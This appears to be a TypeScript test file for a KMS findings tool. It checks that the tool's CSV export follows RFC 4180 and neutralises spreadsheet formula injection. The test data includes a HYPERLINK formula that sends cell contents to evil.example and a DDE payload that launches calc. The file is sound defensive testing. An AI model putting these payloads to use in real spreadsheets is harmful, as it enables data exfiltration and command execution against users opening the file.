import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { CSV_HEADER, csvField, findingsCsv } from '../../src/core/exports/csv.js';
import { cli } from '../helpers/cli.js';
import { acknowledged, recorded, resolved } from '../helpers/recorded-findings.js';
import { withSandbox } from '../helpers/sandbox.js';
import { HUB_CONFIG, hubWorld } from '../helpers/security-hub.js';

const csv = suite('findings as CSV: RFC 4180, and no cell a spreadsheet would run');

/** An RFC 4180 reader (written for the test): records of fields, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (c === '"' || c === '\r' || c === '\n') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

csv('a header row, then one row a finding, every line ending CRLF, as many fields in each', () => {
  const text = findingsCsv([recorded(), acknowledged(), resolved()]);
  const rows = parseCsv(text);
  assert.equal(rows[0], [...CSV_HEADER]);
  assert.is(rows.length, 4);
  for (const row of rows) assert.is(row.length, CSV_HEADER.length);
  const at = (name: string, row = 1) => rows[row]?.[CSV_HEADER.indexOf(name)];
  assert.is(at('fingerprint'), '0123456789abcdef0123456789abcdef');
  assert.is(at('actions'), 'kms:Decrypt kms:GenerateDataKey');
  assert.is(at('grant_id'), '', 'null is an empty field');
  assert.is(at('public'), 'false');
  assert.is(at('ack_reason', 2), 'partner, contract 42');
  assert.is(at('status', 3), 'resolved');
  assert.is(findingsCsv([]), `${CSV_HEADER.join(',')}\r\n`, 'no finding: the header alone');
});

csv('commas, quotes, CR and LF are quoted, quotes doubled; they read back as written', () => {
  const reason = 'line one, "quoted"\nline two\r\nend';
  const text = findingsCsv([recorded({ reason, statement: 'a,b' })]);
  assert.ok(text.includes('"line one, ""quoted""\nline two\r\nend"'));
  const row = parseCsv(text)[1] ?? [];
  assert.is(row[CSV_HEADER.indexOf('reason')], reason);
  assert.is(row[CSV_HEADER.indexOf('statement')], 'a,b');
});

csv("a cell starting with = + - @ TAB or CR starts with ' instead, so a spreadsheet shows it and never runs it", () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const value = `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;
    const field = csvField(value);
    const read = parseCsv(`${field}\r\n`)[0]?.[0];
    assert.is(read, `'${value}`, JSON.stringify(start));
  }
  assert.is(csvField('a=1+2'), 'a=1+2', 'only the first character counts');
  assert.is(csvField(' =1'), ' =1');
  assert.is(csvField(4), '4');
  assert.is(csvField(null), '');
  const text = findingsCsv([acknowledged({ ackReason: "=cmd|' /C calc'!A0", statement: '@SUM(1+1)' })]);
  const row = parseCsv(text)[1] ?? [];
  assert.is(row[CSV_HEADER.indexOf('ack_reason')], "'=cmd|' /C calc'!A0");
  assert.is(row[CSV_HEADER.indexOf('statement')], "'@SUM(1+1)");
  for (const cell of row) assert.not.match(cell, /^[=+\-@\t\r]/);
});

csv('kms-sentinel findings --format csv: the record as CSV, an acknowledgement reason neutralised', async () => {
  await withSandbox(hubWorld(), async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kms-sentinel-csv-'));
    const config = join(dir, 'kms-sentinel.yml');
    writeFileSync(config, `${HUB_CONFIG.replace('enabled: true', 'enabled: false')}database: ${join(dir, 'k.db')}\n`);
    const env = { ...process.env, USER: 'alice' };
    assert.is((await cli(['scan', '--config', config], '', env)).code, 1);
    const listed = JSON.parse((await cli(['findings', '--config', config, '--format', 'json'], '', env)).stdout)
      .findings as { fingerprint: string; statement: string | null }[];
    const target = listed[0]?.fingerprint as string;
    const ack = await cli(
      ['ack', target, '--reason', '=HYPERLINK("https://evil.example","ok")', '--config', config],
      '',
      env,
    );
    assert.is(ack.code, 0, ack.stderr);
    const out = await cli(['findings', '--config', config, '--format', 'csv', '--status', 'all'], '', env);
    assert.is(out.code, 0, out.stderr);
    const rows = parseCsv(out.stdout);
    assert.equal(rows[0], [...CSV_HEADER]);
    assert.is(rows.length, listed.length + 1);
    const row = rows.find((r) => r[0] === target) ?? [];
    assert.is(row[CSV_HEADER.indexOf('status')], 'acknowledged');
    assert.is(row[CSV_HEADER.indexOf('ack_reason')], `'=HYPERLINK("https://evil.example","ok")`);
    const sid = rows.map((r) => r[CSV_HEADER.indexOf('statement')]).find((s) => s?.includes('evil'));
    assert.is(sid, "'@evil", 'a statement Sid chosen by someone else, neutralised too');
  });
});

csv.run();
